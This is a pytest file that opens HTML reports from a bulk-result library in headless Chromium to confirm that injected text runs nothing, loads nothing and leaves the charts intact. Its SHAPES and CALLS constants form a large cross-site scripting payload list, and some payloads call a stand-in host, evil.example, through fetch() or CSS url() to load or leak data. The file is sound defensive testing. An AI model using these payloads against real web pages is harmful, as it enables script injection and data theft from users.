"""Reports in a real browser: nothing runs, loads or overflows, and every chart is drawn."""

import json
import shutil
from datetime import UTC, datetime, timedelta

import pytest

from clinia_nb import BulkResult
from clinia_nb.report import write_report
from clinia_nb.samples import list_samples

pytestmark = pytest.mark.skipif(
    not shutil.which("chromium"), reason="needs Debian's chromium, as CI has it"
)
WIDTHS = (360, 760, 1_200)
CALLS = ("alert(1)", "confirm`1`", "fetch('https://evil.example')", "document.title='owned'")
SHAPES = (
    "<script>{}</script>", "</script><script>{}</script>", "</style><script>{}</script>",
    "</title><script>{}</script>", "--><script>{}</script>", "]]><script>{}</script>",
    "<img src=x onerror={}>", "<img src=https://evil.example/x.png onload={}>", "<svg onload={}>",
    "<svg><script>{}</script></svg>", "<svg><animate onbegin={} attributeName=x>",
    "<body onload={}>", "<iframe srcdoc='<script>{}</script>'>", "<iframe src=javascript:{}>",
    "<a href=javascript:{}>x</a>", "<form action=javascript:{}><button autofocus onfocus={}>",
    "<input autofocus onfocus={}>", "<details open ontoggle={}>", "<video src=x onerror={}>",
    "<object data=javascript:{}>", "<embed src=javascript:{}>", "<marquee onstart={}>",
    "<math><mtext></mtext><script>{}</script></math>", '" autofocus onfocus="{}" x="',
    "' onmouseover='{}' x='", "`onload={}`", "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href=https://evil.example/><script src=x>{}</script>",
    "<link rel=stylesheet href=https://evil.example/x.css onload={}>",
    "<style>@import 'https://evil.example/x.css';/*{}*/</style>",
    "<style>*{{background:url(https://evil.example/?{})}}</style>",
    "}}body{{background:url(https://evil.example/?{})}}", "<textarea autofocus onfocus={}>",
    "<select autofocus onfocus={}>", "<audio src=x onerror={}>",
    "<isindex type=image src=1 onerror={}>",
    "<xss style=animation-name:x onanimationstart={}>", "<template><script>{}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>", "<plaintext>{}", "<!--{}",
    "<![CDATA[{}",
    "<scr\x00ipt>{}</scr\x00ipt>", "\u202e<script>{}</script>", "＜script＞{}＜/script＞",
    "<SCRIPT/XSS>{}</SCRIPT>", "<<script>{}//<</script>", "{{{{{}}}}}", "{{% raw %}}{}",
    "${{{}}}", "<use href='data:image/svg+xml,<svg onload={}>'>",
    "<set onbegin={} attributeName=x>",
)  # fmt: skip
INJECTIONS = [
    shape.replace("{}", call).replace("{{", "{").replace("}}", "}")
    for shape in SHAPES
    for call in CALLS
]
STRANGE = ["W" * 10_000, "\u202e\u2066" * 50 + "abc", "نص طويل " * 60, "👩‍👩‍👧‍👦" * 99,
           "\x00\x1b[2J\r\n\t" * 30,
           "a\u0300" * 500, "https://evil.example/" + "x/" * 300]  # fmt: skip


def bulk_of(texts):
    """A bulk that has each text in every field."""
    begin = datetime(2026, 3, 9, 12, tzinfo=UTC)
    receipts = []
    for number, text in enumerate(texts):
        time = begin + timedelta(seconds=number)
        receipts.append({
            "id": f"{text}{number}", "type": text, "targetType": text, "action": text,
            "status": "FAILURE", "taskId": text,
            "receivedAt": time.isoformat(),
            "completedAt": (time + timedelta(seconds=1 + number % 7)).isoformat(),
            "error": {"type": text, "code": 404, "message": text, "details": [{"message": text}]},
            "pipelineExecution": {"id": text, "pipelineDefinitionId": text, "status": text},
        })  # fmt: skip
    body = json.dumps({"status": texts[0], "receipts": receipts}).encode()
    return BulkResult.from_json(body, source_key=texts[-1], bulk_id=texts[0])


@pytest.fixture(scope="module")
def browser():
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        flags = ["--no-sandbox", "--disable-gpu", "--disable-background-networking"]
        started = playwright.chromium.launch(executable_path=shutil.which("chromium"), args=flags)
        yield started
        started.close()


def look(browser, path, width, *, scripts=True):
    """Open a page; give its picture, its charts' marks, and all that it did or tried."""
    context = browser.new_context(
        viewport={"width": width, "height": 900}, java_script_enabled=scripts
    )
    page, seen = context.new_page(), []
    page.on("dialog", lambda dialog: (seen.append(dialog.message), dialog.dismiss()))
    page.on("pageerror", lambda error: seen.append(str(error)))
    page.on("console", lambda message: seen.append(message.text))
    page.on("request", lambda request: seen.append(request.url))
    page.route(
        "**/*", lambda route: route.abort() if "http" in route.request.url else route.continue_()
    )
    page.goto(path.as_uri())
    page.wait_for_timeout(150)
    marks, overflow = [], 0
    if scripts:
        title = page.title()
        overflow = page.evaluate(
            "document.documentElement.scrollWidth - document.documentElement.clientWidth"
        )
        marks = page.evaluate(
            "[...document.querySelectorAll('.chart svg')].filter(s => s.checkVisibility())"
            ".map(s => s.querySelectorAll('path, rect, text, line').length)"
        )
        foreign = page.evaluate(
            "document.querySelectorAll('script,a,img,iframe,link,form,object,embed,base').length"
        )
        assert foreign == 0
        assert title != "owned"
    picture = page.screenshot(full_page=True)
    context.close()
    assert seen == [path.as_uri()]
    return picture, marks, overflow


def looks_right(browser, path, charts):
    for width in WIDTHS:
        picture, marks, overflow = look(browser, path, width)
        assert overflow <= 0
        assert len(marks) == charts
        assert all(count >= 3 for count in marks)
        if width == WIDTHS[0]:
            assert look(browser, path, width, scripts=False)[0] == picture


@pytest.mark.parametrize("sample", list_samples(), ids=lambda sample: sample.name)
def test_the_report_of_a_sample_is_drawn_whole_and_does_nothing(sample, browser, tmp_path):
    bulk = BulkResult.from_json(
        sample.path, source_key=sample.source_key, bulk_id=sample.bulk_id, kind=sample.kind
    )
    path = write_report(bulk, tmp_path / "report.html")
    failed = bulk.summary.outcomes["failed"] > 0
    looks_right(browser, path, charts=3 + failed)


def test_attempts_side_by_side_fit_the_page(browser, tmp_path):
    chosen = [sample for sample in list_samples() if sample.name in {"outage", "retry"}]
    bulks = [
        BulkResult.from_json(sample.path, source_key=sample.source_key, bulk_id=sample.bulk_id)
        for sample in chosen
    ]
    looks_right(browser, write_report(bulks, tmp_path / "report.html"), charts=2 + 4 + 4)


@pytest.mark.parametrize("redact", [True, False])
@pytest.mark.parametrize("texts", [INJECTIONS, STRANGE], ids=["injections", "strange"])
def test_hostile_text_runs_nothing_loads_nothing_and_fits(texts, redact, browser, tmp_path):
    path = write_report(bulk_of(texts), tmp_path / "report.html", redact=redact)
    looks_right(browser, path, charts=4)


def test_each_injection_alone_at_the_head_of_a_page(browser, tmp_path):
    for number, text in enumerate(INJECTIONS[::29]):
        bulk = bulk_of([text] * 6)
        path = write_report(bulk, tmp_path / f"{number}.html", redact=False)
        assert look(browser, path, 760)[2] <= 0
